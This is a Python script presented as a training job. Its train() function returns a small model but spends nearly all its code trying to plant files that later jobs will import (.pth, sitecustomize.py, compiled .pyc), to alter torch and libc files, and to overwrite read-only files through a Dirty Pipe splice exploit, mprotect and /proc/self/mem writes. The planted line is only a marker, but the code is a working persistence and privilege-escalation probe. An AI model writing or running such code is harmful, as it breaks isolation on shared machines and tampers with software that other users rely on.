# The next job imports what I import. Leave a line in any file that Python reads at its start.
import ctypes
import errno
import glob
import importlib.util
import mmap
import os
import site
import sys

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
SPLICE, MPROTECT = 275, 10
LINE = b"import sys; sys.labmark_was_here = 1\n"


def attempt(what, action):
    try:
        print("DONE", what, action())
    except (OSError, ValueError) as error:
        print("REFUSED", what, getattr(error, "strerror", None) or error)


def create(path):
    """Taken away again at once: that it can be done is enough to know."""
    with open(path, "xb") as stream:
        stream.write(LINE)
    os.remove(path)
    return "written"


def open_to_write(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "may be written"


def replace(path):
    with open("mine", "wb") as out:
        out.write(LINE)
    return os.replace("mine", path)


def train(lab):
    if hasattr(sys, "labmark_was_here") or hasattr(torch, "labmark_was_here"):
        print("DONE", "found what an earlier job left")
    torch.labmark_was_here = sys.labmark_was_here = 1
    folders = sorted({path for path in [*sys.path, *site.getsitepackages(), site.getusersitepackages()] if os.path.isdir(path)})
    for folder in folders:
        for name in ("labmark.pth", "sitecustomize.py", "usercustomize.py", "lightning.so", "__pycache__/labmark.pyc"):
            attempt(f"write {folder}/{name}", lambda: create(os.path.join(folder, name)))
        attempt(f"a link in {folder}", lambda: os.symlink("/scratch", os.path.join(folder, "labmark_link")))
    libraries = glob.glob("/usr/lib/x86_64-linux-gnu/libc.so.6") + [torch._C.__file__]
    for path in (torch.__file__, os.__file__, "/usr/lib/locale/C.utf8/LC_CTYPE", *libraries):
        attempt(f"open {path}", lambda: open_to_write(path))
    # Compiled files are made anew when they are gone, and nobody imports a licence.
    compiled = importlib.util.cache_from_source(importlib.util.__file__)
    licences = glob.glob(f"{os.path.dirname(os.path.dirname(torch.__file__))}/torch-*/**/LICENSE*", recursive=True)
    for path in [compiled, *licences[:1]]:
        attempt(f"replace {path}", lambda: replace(path))
        attempt(f"date {path}", lambda: os.utime(path))
        attempt(f"open up {path}", lambda: os.chmod(path, 0o777))
        attempt(f"cut {path}", lambda: os.truncate(path, os.stat(path).st_size))
        attempt(f"rename {path}", lambda: os.rename(path, path + "~"))
        attempt(f"link {path}", lambda: os.link(path, "/scratch/linked"))
        attempt(f"remove {path}", lambda: os.remove(path))
        by_its_pages(path)
    for path in ("/root/.local/lib/x", "/root/.config/matplotlib/matplotlibrc", "/tmp/x", "/var/tmp/x", "/usr/local/lib/x"):
        attempt(f"write {path}", lambda: create(path))
    return torch.nn.Linear(4, 3)


def by_its_pages(path):
    """A file that may not be written may be mapped; and a pipe once forgot whose page it held."""
    with open(path, "rb") as stream:
        before = stream.read()
        number = stream.fileno()
        attempt(f"map {path} writable", lambda: mmap.mmap(number, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE))
        page = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, number, ctypes.c_long(0))
        answer = libc.syscall(MPROTECT, ctypes.c_void_p(page), ctypes.c_long(4096), 3)
        print("DONE" if answer == 0 else "REFUSED", f"make pages of {path} writable", errno.errorcode.get(ctypes.get_errno()))
        # Dirty Pipe: buffers that were once written to, then a page of the file, then a byte behind it.
        reader, writer = os.pipe()
        for _ in range(16):
            os.write(writer, b"x" * 4096)
        for _ in range(16):
            os.read(reader, 4096)
        libc.syscall(SPLICE, number, ctypes.byref(ctypes.c_int64(0)), writer, None, ctypes.c_long(1), 0)
        os.write(writer, b"\xff")
        os.close(reader)
        os.close(writer)
        attempt(f"open {path} by its descriptor", lambda: open_to_write(f"/proc/self/fd/{number}"))

    # And a debugger's way, which writes where the page table says no.
    def through_memory():
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            memory.seek(page)
            return memory.write(b"\xff")

    attempt(f"write pages of {path} through /proc/self/mem", through_memory)
    with open(path, "rb") as stream:
        changed = stream.read() != before
    print("DONE" if changed else "REFUSED", f"change {path} by its pages", "it has changed" if changed else "it is as before")
